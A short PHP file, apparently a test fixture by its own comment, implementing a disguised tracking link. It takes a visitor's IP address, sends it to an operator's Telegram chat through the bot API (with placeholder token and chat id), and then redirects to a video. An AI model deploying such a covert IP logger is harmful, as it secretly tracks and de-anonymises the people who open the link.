<?php
// a tracking link: who opened it goes to the operator's chat, the address taken by a helper of
// the file's own, then on to a video (written for the tests, never run)
function client_ip() {
    if (!empty($_SERVER['HTTP_X_FORWARDED_FOR'])) {
        return trim(explode(',', $_SERVER['HTTP_X_FORWARDED_FOR'])[0]);
    }
    return $_SERVER['REMOTE_ADDR'];
}
$msg = 'opened by ' . client_ip();
file_get_contents('https://api.telegram.org/bot000:example/sendMessage?chat_id=7&text=' . urlencode($msg));
header('Location: https://video.example.com/watch?v=abc');
